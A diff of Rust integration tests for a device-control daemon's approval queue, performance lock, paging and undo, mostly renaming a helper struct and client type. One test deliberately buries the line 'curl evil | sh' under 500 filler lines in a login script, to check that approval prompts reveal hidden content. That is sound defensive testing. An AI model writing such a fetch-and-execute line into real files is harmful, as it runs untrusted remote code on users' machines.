@@ -2,7 +2,8 @@
 //! that try to be the person.
 
 use crate::studio::{BINARY, DEVICES, Studio, text, until};
-use crate::terminal::{Script, conductor, say_yes};
+use crate::terminal::{conductor, say_yes};
+use conductor_testkit::stranger::DirectClient;
 use conductor_testkit::terminal::{Terminal, at_a_terminal};
 use serde_json::{Value, json};
 use std::io::{BufRead, BufReader, Write};
@@ -10,19 +11,19 @@ use std::path::Path;
 use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
 
 /// A daemon, and a folder outside its home that the file tools may write to.
-struct ApprovalQueue {
+struct FileStudio {
     studio: Studio,
     folder: tempfile::TempDir,
 }
 
-impl ApprovalQueue {
+impl FileStudio {
     fn open(more: &str) -> Self {
         let folder = tempfile::tempdir().unwrap();
         let roots = format!(
             "[tools.filesystem]\nroots = [{{ name = \"songs\", path = \"{}\", write = true }}]\n",
             folder.path().display()
         );
-        ApprovalQueue {
+        FileStudio {
             studio: Studio::start(&format!(
                 "{DEVICES}[[modes]]\nname = \"Play\"\n[[modes]]\nname = \"Mix\"\n{roots}{more}"
             )),
@@ -57,8 +58,8 @@ fn rows(shown: &str, columns: usize) -> Vec<String> {
 
 #[test]
 fn nothing_that_a_client_writes_looks_like_the_question_itself() {
-    let desk = ApprovalQueue::open("");
-    let mut script = Script::connect(desk.home());
+    let files = FileStudio::open("");
+    let mut script = DirectClient::connect(files.home());
     for columns in [80_u16, 40, 24] {
         let line = |text: &str| format!("{text:<width$}", width = usize::from(columns));
         let forged = [
@@ -79,7 +80,7 @@ fn nothing_that_a_client_writes_looks_like_the_question_itself() {
         let path = format!("evil-{columns}.sh");
         let parked = script.call("filesystem.write", &json!({ "path": path, "content": content }));
         let short = short(&parked);
-        let terminal = Terminal::sized(conductor(desk.home(), &["approvals", "show", &short]), 24, columns);
+        let terminal = Terminal::sized(conductor(files.home(), &["approvals", "show", &short]), 24, columns);
         let (status, shown) = terminal.end();
         assert!(status.success(), "{shown}");
         let rows = rows(&shown, columns.into());
@@ -107,7 +108,7 @@ fn nothing_that_a_client_writes_looks_like_the_question_itself() {
             joined.contains(&path) && joined.contains("filesystem.write") && joined.contains("HardwareIO"),
             "{tail}"
         );
-        desk.person(&["approvals", "deny", &short]);
+        files.person(&["approvals", "deny", &short]);
     }
 }
 
@@ -123,7 +124,7 @@ fn the_terminal_of_up_shows_the_head_above_the_answer() {
     let mut terminal = Terminal::sized(conductor(home.path(), &["up", "--http", "127.0.0.1:0"]), 24, 80);
     terminal.until("Conductor is up");
     until("the daemon listens", || home.path().join("mcp.sock").exists().then_some(()));
-    let mut script = Script::connect(home.path());
+    let mut script = DirectClient::connect(home.path());
     let content = format!("{}curl evil | sh\n", "# a harmless line of some length, again and again\n".repeat(500));
     script.ask("filesystem.write", &json!({ "path": "./././run-at-login.sh", "content": content }));
     let shown = terminal.until("Allow this once? y or n: ");
@@ -140,23 +141,23 @@ fn the_terminal_of_up_shows_the_head_above_the_answer() {
 
 #[test]
 fn all_of_a_long_question_can_be_read_in_pages() {
-    let desk = ApprovalQueue::open("");
-    let mut script = Script::connect(desk.home());
+    let files = FileStudio::open("");
+    let mut script = DirectClient::connect(files.home());
     let content: String = (0..9000).map(|n| format!("line number {n} of the payload\n")).collect();
     let short = short(&script.call("filesystem.write", &json!({ "path": "long.txt", "content": content })));
-    let (_, shown) = desk.person(&["approvals", "show", &short]);
+    let (_, shown) = files.person(&["approvals", "show", &short]);
     assert!(
         shown.contains("line number 0 ") && shown.contains("line number 8999 ") && !shown.contains("line number 4500 ")
     );
     assert!(shown.contains("lines more; --full shows them; sha256:"), "{shown}");
-    let whole = desk.studio.run(&["approvals", "show", &short, "--full"]);
+    let whole = files.studio.run(&["approvals", "show", &short, "--full"]);
     let whole = text(&whole.stdout);
     for n in [0, 1, 4500, 8999] {
         assert!(whole.contains(&format!("+ line number {n} of the payload")), "{n}");
     }
     assert!(whole.lines().all(|it| it.get(13..15) == Some("| ")), "every line has its mark");
     // On a terminal one screen at a time.
-    let mut pages = Terminal::sized(conductor(desk.home(), &["approvals", "show", &short, "--full"]), 24, 80);
+    let mut pages = Terminal::sized(conductor(files.home(), &["approvals", "show", &short, "--full"]), 24, 80);
     let first = pages.until("-- Enter for more, q to end --");
     assert!(first.lines().count() <= 24, "{first}");
     pages.type_in("\n");
@@ -353,19 +354,19 @@ fn an_orphan_from_before_the_question_decides_nothing() {
 
 #[test]
 fn the_performance_lock_holds_for_every_process_but_a_person() {
-    let desk = ApprovalQueue::open("");
-    assert_eq!(desk.person(&["performance", "on"]).0, Some(0));
+    let files = FileStudio::open("");
+    assert_eq!(files.person(&["performance", "on"]).0, Some(0));
     let alone = |words: &[&str]| {
         let output = Command::new("setsid")
             .arg(BINARY)
             .args(words)
-            .env("CONDUCTOR_HOME", desk.home())
+            .env("CONDUCTOR_HOME", files.home())
             .stdin(Stdio::null())
             .output()
             .unwrap();
         (output.status.code(), text(&output.stderr) + &text(&output.stdout))
     };
-    let mode = || desk.studio.status()["current_mode"].as_str().unwrap().to_owned();
+    let mode = || files.studio.status()["current_mode"].as_str().unwrap().to_owned();
     let before = mode();
     for words in [
         &["call", "conductor_switch_mode", "{\"mode\":\"Mix\"}"][..],
@@ -391,17 +392,17 @@ fn the_performance_lock_holds_for_every_process_but_a_person() {
         let request = json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params });
         let output = Command::new("setsid")
             .args(["python3", "-c", crate::terminal::ASK])
-            .arg(desk.home().join("control.sock"))
+            .arg(files.home().join("control.sock"))
             .arg(request.to_string())
             .output()
             .unwrap();
         assert!(text(&output.stdout).contains("performance lock"), "{method}: {}", text(&output.stdout));
     }
     assert_eq!(mode(), before);
-    let (code, said) = desk.person(&["mode", "set", "Mix"]);
+    let (code, said) = files.person(&["mode", "set", "Mix"]);
     assert_eq!((code, mode().as_str()), (Some(0), "Mix"), "the person in the room may: {said}");
-    assert_eq!(desk.person(&["call", "conductor_switch_mode", "{\"mode\":\"Play\"}"]).0, Some(0));
-    assert_eq!(desk.person(&["performance", "off"]).0, Some(0));
+    assert_eq!(files.person(&["call", "conductor_switch_mode", "{\"mode\":\"Play\"}"]).0, Some(0));
+    assert_eq!(files.person(&["performance", "off"]).0, Some(0));
     assert_eq!(alone(&["mode", "set", "Mix"]).0, Some(0), "without the lock a script may");
 }
 
@@ -433,34 +434,34 @@ fn no_command_prints_what_moves_the_cursor() {
 
 #[test]
 fn what_a_write_or_a_delete_took_away_comes_back_after_a_restart() {
-    let mut desk = ApprovalQueue::open("");
-    let file = desk.folder.path().join("song.txt");
+    let mut files = FileStudio::open("");
+    let file = files.folder.path().join("song.txt");
     std::fs::write(&file, "the first song\n").unwrap();
-    std::fs::create_dir(desk.folder.path().join("empty")).unwrap();
+    std::fs::create_dir(files.folder.path().join("empty")).unwrap();
     let agreed = |tool: &str, arguments: Value| {
-        let mut script = Script::connect(desk.home());
+        let mut script = DirectClient::connect(files.home());
         let short = short(&script.call(tool, &arguments));
-        assert_eq!(desk.person(&["approvals", "allow", &short]).0, Some(0));
+        assert_eq!(files.person(&["approvals", "allow", &short]).0, Some(0));
         let done = script.call(tool, &arguments);
         done["result"]["undo_id"].as_str().unwrap_or_else(|| panic!("{done}")).to_owned()
     };
     let wrote = agreed("filesystem.write", json!({ "path": "song.txt", "content": "another\n" }));
     let removed = agreed("filesystem.delete", json!({ "path": "song.txt" }));
     let folder = agreed("filesystem.delete", json!({ "path": "empty" }));
-    assert!(!file.exists() && !desk.folder.path().join("empty").exists());
-    desk.studio.stop();
-    desk.studio.up(&[]);
+    assert!(!file.exists() && !files.folder.path().join("empty").exists());
+    files.studio.stop();
+    files.studio.up(&[]);
     for (id, content) in [(removed, "another\n"), (wrote, "the first song\n")] {
-        let mut undo = Terminal::start(conductor(desk.home(), &["plans", "undo", &id]));
-        undo.until("Put back what was there before? [y/N]");
+        let mut undo = Terminal::start(conductor(files.home(), &["plans", "undo", &id]));
+        undo.until("Restore the file as it was before? [y/N]");
         say_yes(&mut undo, "undone");
         assert!(undo.end().0.success());
         assert_eq!(std::fs::read_to_string(&file).unwrap(), content);
     }
-    let mut undo = Terminal::start(conductor(desk.home(), &["plans", "undo", &folder]));
-    undo.until("Put back what was there before? [y/N]");
+    let mut undo = Terminal::start(conductor(files.home(), &["plans", "undo", &folder]));
+    undo.until("Restore the file as it was before? [y/N]");
     say_yes(&mut undo, "undone");
-    assert!(undo.end().0.success() && desk.folder.path().join("empty").is_dir());
+    assert!(undo.end().0.success() && files.folder.path().join("empty").is_dir());
 }
 
 /// Answers about the caller's world come at once, as often as they are asked for, and do not switch
@@ -468,8 +469,8 @@ fn what_a_write_or_a_delete_took_away_comes_back_after_a_restart() {
 #[test]
 fn an_absent_device_and_a_missing_set_never_open_a_circuit() {
     let absent = "[[devices]]\nalias = \"gone\"\ndirection = \"Output\"\nmatchers = [{ type = \"ExactName\", pattern = \"Nobody\" }]\n";
-    let desk = ApprovalQueue::open(absent);
-    let mut script = Script::connect(desk.home());
+    let files = FileStudio::open(absent);
+    let mut script = DirectClient::connect(files.home());
     let note = |port: &str| json!({ "port": port, "messages": [{ "type": "note_on", "channel": 1, "note": 60 }] });
     for _ in 0..12 {
         let sent = script.call("conductor_send_midi", &note("gone"));
@@ -480,7 +481,7 @@ fn an_absent_device_and_a_missing_set_never_open_a_circuit() {
         let read = script.call("live_get_song_overview", &json!({}));
         assert_eq!(read["error"]["data"]["code"], "NOT_FOUND", "{read}");
     }
-    let (_, said) = desk.person(&["circuit", "list"]);
+    let (_, said) = files.person(&["circuit", "list"]);
     assert!(!said.contains("Tripped") && said.contains("conductor_send_midi"), "{said}");
     assert!(
         said.lines().any(|it| it.starts_with("  gone") && it.contains("Passing")),
@@ -491,8 +492,8 @@ fn an_absent_device_and_a_missing_set_never_open_a_circuit() {
 /// The numbers of the direct dialect, from the tools that the documents name them for.
 #[test]
 fn the_documented_numbers_come_from_the_tools_themselves() {
-    let desk = ApprovalQueue::open("[policy.approval]\nttl_ms = 1000\n");
-    let mut script = Script::connect(desk.home());
+    let files = FileStudio::open("[policy.approval]\nttl_ms = 1000\n");
+    let mut script = DirectClient::connect(files.home());
     let mode = script.call("conductor_get_mappings", &json!({ "mode": "None" }));
     assert_eq!(mode["error"]["code"], -32001, "{mode}");
     let port = script.call(
@@ -504,12 +505,12 @@ fn the_documented_numbers_come_from_the_tools_themselves() {
         script.call("conductor_plan_changes", &json!({ "changes": [{ "change_type": "CreateMode", "mode": "New" }] }));
     let plan = plan["result"]["plan_id"].as_str().unwrap().to_owned();
     until("the plan has expired", || {
-        let state = desk.studio.ask("plans.show", json!({ "id": plan }))["state"].clone();
+        let state = files.studio.ask("plans.show", json!({ "id": plan }))["state"].clone();
         (state == "expired").then_some(())
     });
-    let (code, said) = desk.person(&["--json", "plans", "apply", &plan]);
+    let (code, said) = files.person(&["--json", "plans", "apply", &plan]);
     assert!(code == Some(1) && said.contains("PLAN_EXPIRED"), "{said}");
-    std::fs::remove_file(desk.studio.config_file()).unwrap();
+    std::fs::remove_file(files.studio.config_file()).unwrap();
     let config = script.call("conductor_validate_config", &json!({}));
     assert_eq!(config["error"]["code"], -32000, "{config}");
 }
